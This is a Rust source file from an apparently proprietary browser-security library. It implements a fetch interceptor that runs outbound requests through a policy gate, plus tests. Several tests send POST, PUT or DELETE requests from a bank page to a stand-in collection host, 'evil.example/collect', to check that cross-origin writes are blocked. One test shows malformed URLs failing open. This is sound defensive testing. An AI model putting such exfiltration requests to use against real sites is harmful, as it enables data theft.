// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

//! Fetch adapter
//!
//! Accepts either a raw URL or a structured request descriptor plus an init
//! block, mirroring the pathway's two calling conventions. Evaluation happens
//! before the underlying send is ever issued; a block surfaces as an error,
//! the same shape as a failed network call.

use std::sync::Arc;

use super::Gate;
use crate::error::{Error, Result};
use crate::policy::{Body, OutboundRequest, PageContext, PathwayKind};
use crate::send::{HttpSend, SendReceipt};

/// Structured request descriptor
#[derive(Debug, Clone)]
pub struct FetchRequest {
    /// Destination URL
    pub url: String,
    /// Method carried by the descriptor
    pub method: Option<String>,
}

impl FetchRequest {
    /// Create a descriptor for a URL
    pub fn new(url: impl Into<String>) -> Self {
        Self {
            url: url.into(),
            method: None,
        }
    }

    /// Set the descriptor method
    pub fn method(mut self, method: impl Into<String>) -> Self {
        self.method = Some(method.into());
        self
    }
}

/// First argument of a fetch call
#[derive(Debug, Clone)]
pub enum FetchInput {
    /// A raw URL
    Url(String),
    /// A structured descriptor
    Request(FetchRequest),
}

impl From<&str> for FetchInput {
    fn from(url: &str) -> Self {
        FetchInput::Url(url.to_string())
    }
}

impl From<String> for FetchInput {
    fn from(url: String) -> Self {
        FetchInput::Url(url)
    }
}

impl From<FetchRequest> for FetchInput {
    fn from(request: FetchRequest) -> Self {
        FetchInput::Request(request)
    }
}

/// Options accompanying a fetch call
///
/// An init method overrides the descriptor's method; the body always comes
/// from the init block.
#[derive(Debug, Clone, Default)]
pub struct FetchInit {
    /// Method override
    pub method: Option<String>,
    /// Request body
    pub body: Body,
}

impl FetchInit {
    /// Create empty options
    pub fn new() -> Self {
        Self::default()
    }

    /// Set the method
    pub fn method(mut self, method: impl Into<String>) -> Self {
        self.method = Some(method.into());
        self
    }

    /// Set the body
    pub fn body(mut self, body: Body) -> Self {
        self.body = body;
        self
    }
}

/// Adapter for the fetch pathway
pub struct FetchInterceptor {
    gate: Arc<Gate>,
    send: Arc<dyn HttpSend>,
}

impl FetchInterceptor {
    pub(crate) fn new(gate: Arc<Gate>, send: Arc<dyn HttpSend>) -> Self {
        Self { gate, send }
    }

    /// Gate and issue a fetch-style request
    pub async fn fetch(
        &self,
        input: impl Into<FetchInput>,
        init: FetchInit,
        page: &PageContext,
    ) -> Result<SendReceipt> {
        let (url, descriptor_method) = match input.into() {
            FetchInput::Url(url) => (url, None),
            FetchInput::Request(request) => (request.url, request.method),
        };
        let method = init
            .method
            .or(descriptor_method)
            .unwrap_or_else(|| "GET".to_string());

        let request = OutboundRequest::new(url, method, page.clone()).body(init.body);
        let decision = self.gate.decide(&request).await;

        if decision.block {
            self.gate.report(PathwayKind::Fetch, &request, &decision);
            return Err(Error::blocked(
                PathwayKind::Fetch,
                request.url,
                decision.reason,
            ));
        }

        self.send.send(&request).await
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::{MemoryConfigStore, PolicyConfig, ReasonCode};
    use crate::sink::{HistoryLog, NullNotifier};
    use async_trait::async_trait;
    use parking_lot::Mutex;

    struct RecordingSender {
        sent: Mutex<Vec<(String, String)>>,
    }

    impl RecordingSender {
        fn new() -> Arc<Self> {
            Arc::new(Self {
                sent: Mutex::new(Vec::new()),
            })
        }
    }

    #[async_trait]
    impl HttpSend for RecordingSender {
        async fn send(&self, request: &OutboundRequest) -> Result<SendReceipt> {
            self.sent
                .lock()
                .push((request.method.clone(), request.url.clone()));
            Ok(SendReceipt { status: 200 })
        }
    }

    fn interceptor(
        config: PolicyConfig,
        sender: Arc<RecordingSender>,
        history: HistoryLog,
    ) -> FetchInterceptor {
        let gate = Arc::new(Gate::new(
            Arc::new(MemoryConfigStore::with_config(config)),
            history,
            Arc::new(NullNotifier),
        ));
        FetchInterceptor::new(gate, sender)
    }

    fn page() -> PageContext {
        PageContext::new("https://bank.example/app").unwrap()
    }

    #[tokio::test]
    async fn test_blocked_fetch_fails_like_a_network_error() {
        let sender = RecordingSender::new();
        let history = HistoryLog::new();
        let fetch = interceptor(PolicyConfig::default(), sender.clone(), history.clone());

        let err = fetch
            .fetch(
                "https://evil.example/collect",
                FetchInit::new().method("POST").body(Body::text("data")),
                &page(),
            )
            .await
            .unwrap_err();

        assert!(err.is_blocked());
        assert_eq!(err.block_reason(), Some(ReasonCode::CrossOriginWrite));
        // The underlying primitive never ran
        assert!(sender.sent.lock().is_empty());
        assert_eq!(history.len(), 1);
    }

    #[tokio::test]
    async fn test_same_origin_fetch_proceeds() {
        let sender = RecordingSender::new();
        let fetch = interceptor(PolicyConfig::default(), sender.clone(), HistoryLog::new());

        let receipt = fetch
            .fetch("/api/items", FetchInit::new(), &page())
            .await
            .unwrap();

        assert_eq!(receipt.status, 200);
        assert_eq!(
            sender.sent.lock().clone(),
            vec![("GET".to_string(), "/api/items".to_string())]
        );
    }

    #[tokio::test]
    async fn test_init_method_overrides_descriptor() {
        let sender = RecordingSender::new();
        let fetch = interceptor(
            PolicyConfig::new().block_cross_origin_writes(false),
            sender.clone(),
            HistoryLog::new(),
        );

        let request = FetchRequest::new("https://evil.example/collect").method("GET");
        fetch
            .fetch(request, FetchInit::new().method("DELETE"), &page())
            .await
            .unwrap();

        assert_eq!(sender.sent.lock()[0].0, "DELETE");
    }

    #[tokio::test]
    async fn test_descriptor_method_used_when_no_override() {
        let sender = RecordingSender::new();
        let history = HistoryLog::new();
        let fetch = interceptor(PolicyConfig::default(), sender.clone(), history.clone());

        let request = FetchRequest::new("https://evil.example/collect").method("PUT");
        let err = fetch
            .fetch(request, FetchInit::new(), &page())
            .await
            .unwrap_err();

        assert_eq!(err.block_reason(), Some(ReasonCode::CrossOriginWrite));
    }

    #[tokio::test]
    async fn test_invalid_url_fails_open_to_the_primitive() {
        let sender = RecordingSender::new();
        let history = HistoryLog::new();
        let fetch = interceptor(PolicyConfig::default(), sender.clone(), history.clone());

        // Never blocked; the primitive sees it and fails its own way
        fetch
            .fetch("http://[broken", FetchInit::new().method("POST"), &page())
            .await
            .unwrap();

        assert!(history.is_empty());
        assert_eq!(sender.sent.lock().len(), 1);
    }
}
